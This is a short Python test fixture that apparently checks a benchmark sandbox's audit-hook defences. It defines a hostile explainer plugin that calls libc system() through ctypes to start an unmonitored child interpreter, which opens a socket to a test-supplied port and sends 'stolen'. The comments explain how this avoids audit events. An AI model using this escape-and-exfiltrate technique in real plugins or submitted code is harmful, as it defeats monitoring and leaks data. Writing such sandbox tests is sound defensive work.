"""Hostile: starts a fresh interpreter (no audit hook in it) through libc system() that phones home."""

import json

import numpy as np

from gecobench.explainers import Explainer

# Filled in by the test with the host's real paths (what an attacker who knows the host would aim at).
HOST = json.loads(r"""__HOST__""")
# libc is reached through ctypes.pythonapi (the interpreter's own handle): no dlopen, no audit event.


class ChildPhonesHome(Explainer):
    name = "net_child_process"

    def explain(self, model, tokenizer, words, targets):
        import ctypes
        import sys

        code = f"import socket; socket.create_connection(('127.0.0.1', {HOST['port']}), 5).sendall(b'stolen')"
        status = ctypes.pythonapi.system(f"{sys.executable} -c \"{code}\"".encode())
        if status != 0:
            raise ConnectionError(f"the child process could not reach the host (status {status})")
        return [np.ones(len(w)) for w in words]
